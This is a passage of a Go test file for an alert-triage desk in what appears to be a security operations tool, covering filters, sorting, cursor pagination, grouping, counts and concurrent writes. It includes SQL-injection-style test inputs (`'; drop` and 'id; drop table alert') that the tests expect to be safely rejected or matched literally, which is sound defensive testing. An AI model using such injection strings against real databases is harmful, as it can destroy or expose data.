		fs = append(fs, firing("rx", "tràng-an", "x1", 0, exercise), firing("rd", "mau", "d1", 0, demo))
		d.apply(1, fs...)
		if _, err := d.Close(ctx, duty1, all, []triage.Ref{{ID: "CB-2026-000001"}, {ID: "CB-2026-000002"}}, "duplicate", ""); err != nil {
			t.Fatal(err)
		}
		if _, err := d.Acknowledge(ctx, duty1, all, []triage.Ref{{ID: "CB-2026-000003"}}, false); err != nil {
			t.Fatal(err)
		}
		for _, tc := range []struct {
			name string
			f    triage.Filter
			want int64
		}{
			{"all but exercises", triage.Filter{}, 26},
			{"with exercises", triage.Filter{Exercise: triage.With}, 27},
			{"exercises", triage.Filter{Exercise: triage.Only}, 1},
			{"without sample data", triage.Filter{NoDemo: true}, 25},
			{"open", triage.Filter{States: []string{"open"}}, 24},
			{"open or closed", triage.Filter{States: []string{"open", "closed"}}, 26},
			{"closed", triage.Filter{States: []string{"closed"}}, 2},
			{"new or closed", triage.Filter{States: []string{"new", "closed"}}, 25},
			{"reasons", triage.Filter{Reasons: []string{"duplicate"}}, 2},
			{"severity", triage.Filter{Severities: []soc.Severity{soc.Critical, soc.High}}, 11},
			{"mine", triage.Filter{States: []string{"open"}, Holder: duty1.ID}, 1},
			{"nobody's", triage.Filter{Unheld: true}, 23},
			{"rule and host", triage.Filter{Rules: []string{"r1"}, Host: "H06"}, 1},
			{"words without marks, any order", triage.Filter{Text: "R1 do  mat"}, 5},
			{"number", triage.Filter{Text: "cb-2026-000007"}, 1},
			{"a percent sign is itself", triage.Filter{Text: "%"}, 0},
			{"a quote is itself", triage.Filter{Text: `'; drop`}, 0},
			{"made before", triage.Filter{To: noon.UnixMilli()}, 0},
			{"made from", triage.Filter{From: noon.UnixMilli()}, 26},
			{"last hit within", triage.Filter{LastFrom: noon.UnixMilli(), LastTo: noon.UnixMilli() + 60_000}, 5},
			{"unit", triage.Filter{Units: []string{"DV-09"}}, 0},
			{"personal", triage.Filter{Personal: true}, 0},
		} {
			p, err := d.List(ctx, all, triage.Query{Filter: tc.f, Limit: 500})
			if err != nil || p.Total != tc.want || int64(len(p.Items)) != tc.want {
				t.Errorf("%s: total %d with %d rows, %v; want %d", tc.name, p.Total, len(p.Items), err, tc.want)
			}
		}
		for _, sort := range []string{"", "score", "-score", "last", "-last", "first", "-first", "created", "-created", "severity", "-severity",
			"count", "-count", "number", "-number"} {
			whole, err := d.List(ctx, all, triage.Query{Sort: sort, Limit: 500})
			if err != nil {
				t.Fatalf("sort %q: %v", sort, err)
			}
			var want, got []string
			for _, a := range whole.Items {
				want = append(want, a.Number)
			}
			for cursor, pages := "", 0; ; pages++ {
				p, err := d.List(ctx, all, triage.Query{Sort: sort, Limit: 7, Cursor: cursor})
				if err != nil || p.Total != whole.Total || pages > 5 {
					t.Fatalf("sort %q page %d: total %d, %v", sort, pages, p.Total, err)
				}
				for _, a := range p.Items {
					got = append(got, a.Number)
				}
				if cursor = p.Next; cursor == "" {
					break
				}
			}
			if diff := cmp.Diff(want, got); diff != "" {
				t.Errorf("sort %q: pages differ from the whole (-want +got):\n%s", sort, diff)
			}
			if strings.TrimPrefix(sort, "-") == "number" && slices.IsSorted(got) == strings.HasPrefix(sort, "-") {
				t.Errorf("sort %q is %v", sort, got)
			}
		}
		p, err := d.List(ctx, all, triage.Query{Limit: 7})
		if err != nil {
			t.Fatal(err)
		}
		for name, q := range map[string]triage.Query{"another sort": {Sort: "last", Cursor: p.Next}, "rubbish": {Cursor: "!!"},
			"empty object": {Cursor: "e30"}} {
			if _, err := d.List(ctx, all, q); code(err) != triage.CodeCursor {
				t.Errorf("cursor of %s = %v", name, err)
			}
		}
		if _, err := d.List(ctx, all, triage.Query{Sort: "id; drop table alert"}); code(err) != triage.CodeSort {
			t.Errorf("unknown sort = %v", err)
		}
		if _, _, err := d.Groups(ctx, all, triage.Filter{}, "colour", 0); code(err) != triage.CodeGroup {
			t.Errorf("unknown group = %v", err)
		}
		g, n, err := d.Groups(ctx, all, triage.Filter{}, "rule", 2)
		if err != nil || n != 6 || len(g) != 2 || g[0].Value != "r4" || g[0].Severity != soc.Critical || g[0].Alerts != 5 ||
			g[0].Title["vi"] == "" {
			t.Errorf("Groups by rule = %+v of %d, %v", g, n, err)
		}
		d.pass(time.Minute)
		c, err := d.Counts(ctx, all, duty1.ID, false)
		want := triage.Counts{Unacknowledged: 23, Mine: 1, Urgent: 11, Open: 24, Exercise: 1, Today: 26, ClosedToday: 2,
			OldestNew: noon.UnixMilli(), LastClosed: noon.UnixMilli()}
		if diff := cmp.Diff(want, c); diff != "" || err != nil {
			t.Errorf("Counts: %v (-want +got):\n%s", err, diff)
		}
		if n, err := d.DemoRemove(ctx, duty1); err != nil || n != 1 {
			t.Errorf("DemoRemove = %d, %v", n, err)
		}
		if n, err := d.DemoRemove(ctx, duty1); err != nil || n != 0 {
			t.Errorf("DemoRemove again = %d, %v", n, err)
		}
	})
}

func TestManyAtOnce(t *testing.T) {
	each(t, func(t *testing.T, d *desk, _ func() *desk) {
		ctx := context.Background()
		const writers, batches = 8, 12
		var wg sync.WaitGroup
		for w := range writers {
			wg.Go(func() {
				for i := range batches {
					f := firing("r", fmt.Sprintf("h%d", i%3), fmt.Sprintf("e%d-%d", w, i), time.Duration(i)*time.Second)
					if _, err := d.Apply(ctx, triage.Position{Reader: fmt.Sprintf("reader%d", w), Epoch: "e1", Seq: uint64(i + 1)}, []triage.Firing{f},
						nil); err != nil {
						t.Errorf("writer %d batch %d: %v", w, i, err)
					}
					if _, err := d.Acknowledge(ctx, duty1, all, []triage.Ref{{ID: "CB-2026-000001"}}, true); err != nil {
						t.Errorf("writer %d: %v", w, err)
					}
					if _, err := d.List(ctx, all, triage.Query{}); err != nil {
						t.Errorf("writer %d: %v", w, err)
					}
				}
			})
		}
		wg.Wait()
		want := []string{"h0×32", "h1×32", "h2×32"}
		var got []string
		for _, line := range d.list(triage.Query{Sort: "number"}) {
			_, x, _ := strings.Cut(line, " ")
			got = append(got, x)
		}
		slices.Sort(got)
		if diff := cmp.Diff(want, got); diff != "" {
			t.Errorf("counts after %d writers (-want +got):\n%s", writers, diff)
		}
	})
}

func BenchmarkApply(b *testing.B) {
	s := triage.New(statetest.Open(b), triage.Config{Flood: 1 << 30}, slog.New(slog.DiscardHandler))
	n := 0
	for i := 0; b.Loop(); i++ {
		fs := make([]triage.Firing, 50)
		for j := range fs {
			n++
			fs[j] = firing("r", fmt.Sprintf("h%d", n), fmt.Sprintf("e%d", n), 0)
		}
		if _, err := s.Apply(context.Background(), triage.Position{Reader: "detect", Epoch: "e", Seq: uint64(i + 1)}, fs, nil); err != nil {
			b.Fatal(err)
		}
	}
	b.ReportMetric(float64(n)/b.Elapsed().Seconds(), "alerts/s")
}
